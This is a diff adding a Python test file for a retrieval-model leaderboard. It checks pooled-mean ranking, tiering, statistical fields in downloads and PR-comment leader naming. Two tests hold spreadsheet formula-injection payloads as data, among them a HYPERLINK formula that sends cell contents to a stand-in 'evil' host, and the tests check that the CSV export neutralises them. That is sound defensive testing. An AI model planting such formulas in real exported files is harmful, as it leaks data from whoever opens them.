@@ -1,0 +1,228 @@
+"""One statistic per cell: what a view shows, sorts by and tests is the same quantity."""
+
+from __future__ import annotations
+
+import csv
+import io
+import math
+from pathlib import Path
+
+import pytest
+
+from leaderboard.results import ModelInfo, Source, SystemResult, TaskScores
+from leaderboard.site.layout import Column, View
+from leaderboard.standings import (
+    TIER_LEADER,
+    Row,
+    column_value,
+    fill_view,
+    load_rows,
+    query_counts,
+    rank_systems,
+    tier_tables,
+)
+from leaderboard.standings.downloads import csv_cell, csv_text, view_records
+
+REPO = Path(__file__).resolve().parents[1]
+
+
+@pytest.fixture(scope="module")
+def committed_board(tmp_path_factory: pytest.TempPathFactory):
+    """Every view of the site built from the committed submissions and results/reported."""
+    from leaderboard.site.board import load_board
+
+    return load_board(REPO, cache_dir=tmp_path_factory.mktemp("tiers"))
+
+
+def test_no_tiered_column_marks_a_leader_that_is_not_its_best_verified_value(
+        committed_board) -> None:
+    checked = 0
+    for view_id, table in committed_board.tables.items():
+        index = table.view.tiered_column
+        if index is None:
+            continue
+        column = table.view.columns[index]
+        tiers = table.tiers.get(index, {})
+        verified = [(table.values[r.key][index], r.key) for r in table.rows
+                    if r.verified and r.key in tiers]
+        if not verified:
+            continue
+        leaders = [k for k, t in tiers.items() if t.tier == TIER_LEADER]
+        assert len(leaders) == 1, view_id
+        best = max(v for v, _ in verified) if column.higher_is_better else min(
+            v for v, _ in verified)
+        assert table.values[leaders[0]][index] == best, (view_id, leaders[0])
+        # The shown value is the mean the test compared, and the pooled mean of the row.
+        for value, key in verified:
+            assert tiers[key].mean == value
+        if index == table.view.sort_column:
+            first = next(r.key for r in table.rows if r.verified and r.key in tiers)
+            assert first == leaders[0], view_id
+        checked += 1
+    assert checked >= 50  # FollowTable and PI-Indic T1-T3 views of the two baselines
+
+
+def test_followtable_c1_shows_ranks_and_tests_the_pooled_mean(committed_board) -> None:
+    table = committed_board.tables["followtable/constraint/C1"]
+    index = table.view.tiered_column
+    rows = {r.key: r for r in table.rows}
+    for key in ("bm25s", "all-minilm-l6-v2"):
+        system = rows[key].system
+        pooled = []
+        for task_id in table.view.columns[index].tasks:
+            scores = system.tasks[task_id]
+            members = set(scores.group_members["C1"])
+            pooled += [v for q, v in scores.per_query["IRS"].items() if q in members]
+        assert table.values[key][index] == pytest.approx(math.fsum(pooled) / len(pooled),
+                                                         abs=1e-12)
+    assert table.leader().key == table.rows[0].key
+
+
+# --------------------------------------------------------------------------- synthetic
+
+def _system(sid: str, tasks: dict[str, dict[str, float]] | None = None, *,
+            figures: dict[str, float] | None = None, reported: bool = False) -> SystemResult:
+    out = {}
+    for task_id, per_query in (tasks or {}).items():
+        out[task_id] = TaskScores(metrics={"IRS": math.fsum(per_query.values()) / len(per_query)},
+                                  per_query={"IRS": per_query}, n_queries=len(per_query))
+    for task_id, value in (figures or {}).items():
+        out[task_id] = TaskScores(metrics={"IRS": value})
+    return SystemResult(system_id=sid, model=ModelInfo(name=sid),
+                        provenance="reported" if reported else "verified",
+                        source=Source(kind="paper" if reported else "scored"), tasks=out)
+
+
+TWO = Column(id="IRS", label="IRS", metric="IRS", tasks=("followtable/wtr", "followtable/wqt"),
+             signed=True)
+
+
+def _uneven_pair() -> tuple[SystemResult, SystemResult]:
+    """'a' wins the small task by far, 'b' the big one by a little: the mean of the two
+    task means favours 'a', the mean over all queries favours 'b'."""
+    small = {f"s{i}": 0.9 for i in range(4)}
+    big_a = {f"b{i}": 0.1 + 0.001 * (i % 7) for i in range(60)}
+    a = _system("a", {"followtable/wtr": small, "followtable/wqt": big_a})
+    b = _system("b", {"followtable/wtr": {q: 0.0 for q in small},
+                      "followtable/wqt": {q: v + 0.2 for q, v in big_a.items()}})
+    return a, b
+
+
+def test_an_average_column_shows_the_pooled_mean_not_the_mean_of_task_means() -> None:
+    a, b = _uneven_pair()
+    assert column_value(a, TWO).value == pytest.approx((4 * 0.9 + math.fsum(
+        a.tasks["followtable/wqt"].per_query["IRS"].values())) / 64)
+    standings = rank_systems({"a": a, "b": b}, TWO)
+    assert standings.order[0] == standings.leader == "b"
+    assert standings.values["b"] > standings.values["a"]
+
+
+def test_reported_rows_weigh_tasks_by_their_queries() -> None:
+    a, _ = _uneven_pair()
+    paper = _system("paper", figures={"followtable/wtr": 1.0, "followtable/wqt": 0.0},
+                    reported=True)
+    counts = query_counts([a], TWO)
+    assert counts == {"followtable/wtr": 4, "followtable/wqt": 60}
+    cell = column_value(paper, TWO, counts)
+    assert cell.value == pytest.approx(4 / 64) and cell.basis == "weighted"
+    # without counts a reported row says its value is a plain mean of task figures
+    assert column_value(paper, TWO).basis == "unweighted"
+
+
+def _table_of(systems: list[SystemResult]) -> object:
+    view = View(id="followtable/test", label="t", title="t", columns=(TWO,), tiered_column=0)
+    rows = [Row(key=s.system_id, system=s, origin=Path("x")) for s in systems]
+    table = fill_view(view, rows)
+    tier_tables([table])
+    return table
+
+
+def test_view_table_sorts_and_tiers_on_the_shown_value() -> None:
+    a, b = _uneven_pair()
+    table = _table_of([a, b])
+    assert [r.key for r in table.rows] == ["b", "a"]
+    assert table.leader().key == "b"
+
+
+# --------------------------------------------------------------------------- downloads
+
+def test_downloads_hold_raw_and_adjusted_p_difference_and_interval() -> None:
+    a, b = _uneven_pair()
+    c = _system("c", {t: {q: v - 0.05 for q, v in s.per_query["IRS"].items()}
+                      for t, s in b.tasks.items()})
+    header, records = view_records(_table_of([a, b, c]), lambda row: "scored")
+    for field in ("tier", "p_value", "p_adjusted", "effect_vs_leader", "ci_low", "ci_high"):
+        assert f"IRS {field}" in header
+    by_id = {r["system_id"]: r for r in records}
+    assert by_id["b"]["IRS tier"] == "leader" and by_id["b"]["IRS p_value"] is None
+    for sid in ("a", "c"):
+        r = by_id[sid]
+        assert 0 < r["IRS p_value"] <= r["IRS p_adjusted"] <= 1
+        assert r["IRS ci_low"] - 1e-12 <= r["IRS effect_vs_leader"] <= r["IRS ci_high"] + 1e-12
+        assert r["IRS effect_vs_leader"] == pytest.approx(r["IRS"] - by_id["b"]["IRS"])
+
+
+@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+1", "-2+3",
+                                  "@SUM(A1)", "\t=1", "\r=1"])
+def test_csv_text_cells_that_start_a_formula_are_neutralised(text: str) -> None:
+    assert csv_cell(text) == "'" + text
+    assert csv_cell("BM25 (k1=0.9)") == "BM25 (k1=0.9)"
+
+
+def test_csv_keeps_negative_numbers_as_numbers() -> None:
+    out = csv_text(["model", "IRS", "rank"], [{"model": "-evil", "IRS": -0.125, "rank": 3}])
+    rows = list(csv.reader(io.StringIO(out)))
+    assert rows[1] == ["'-evil", "-0.125", "3"]
+    assert float(rows[1][1]) == -0.125
+
+
+# --------------------------------------------------------------------------- PR comment
+
+def test_pr_comment_names_the_leader_the_site_marks() -> None:
+    """Two committed systems tie exactly: the site's leader is the smaller id, and the
+    comment must name that one as the previous leader, not the alphabetically first name."""
+    from leaderboard.ci.compare import CommittedResults, standing
+    from leaderboard.registry import all_tasks
+    from leaderboard.standings import rank_systems, task_column
+
+    task = all_tasks()["followtable/wtr"]
+    scores = {f"{i}_0": 0.1 * (i % 5) for i in range(40)}
+
+    def named(sid: str, name: str, shift: float) -> SystemResult:
+        s = _system(sid, {task.id: {q: v + shift for q, v in scores.items()}})
+        return s.model_copy(update={"model": ModelInfo(name=name)})
+
+    committed = CommittedResults(verified={"a-model": named("a-model", "Zed", 0.0),
+                                           "b-model": named("b-model", "Alpha", 0.0)})
+    site = rank_systems(committed.verified, task_column(task.id))
+    assert site.leader == "a-model" == site.order[0]
+    row = standing(task, named("c-new", "New", -0.05), committed)
+    assert row.previous_leader == "Zed"
+    assert row.tier == "below leader"
+
+
+def test_site_downloads_neutralise_formulas_and_hold_the_tests(tmp_path: Path) -> None:
+    """The files the site publishes: a hostile model name is inert text in the CSV, a
+    negative score stays a number, and the tests against the leader are there."""
+    import json
+
+    from leaderboard.site.render import write_downloads
+
+    a, b = _uneven_pair()
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    a = a.model_copy(update={"model": ModelInfo(name=hostile)})
+    b = _system("b", {t: {q: v - 1.0 for q, v in s.per_query["IRS"].items()}
+                      for t, s in b.tasks.items()})  # negative IRS
+    table = _table_of([a, b])
+    write_downloads(table, tmp_path)
+    with (tmp_path / f"{table.view.anchor}.csv").open(encoding="utf-8") as fh:
+        records = {r["system_id"]: r for r in csv.DictReader(fh)}
+    assert records["a"]["model"] == "'" + hostile
+    assert float(records["b"]["IRS"]) < 0 and not records["b"]["IRS"].startswith("'")
+    assert float(records["b"]["IRS effect_vs_leader"]) < 0
+    for field in ("p_value", "p_adjusted", "ci_low", "ci_high"):
+        assert records["b"][f"IRS {field}"] != ""
+    doc = json.loads((tmp_path / f"{table.view.anchor}.json").read_text(encoding="utf-8"))
+    row = next(r for r in doc["rows"] if r["system_id"] == "a")
+    assert row["model"] == hostile  # JSON is data, not a spreadsheet: kept as is
+    assert "each query once" in doc["statistic"]
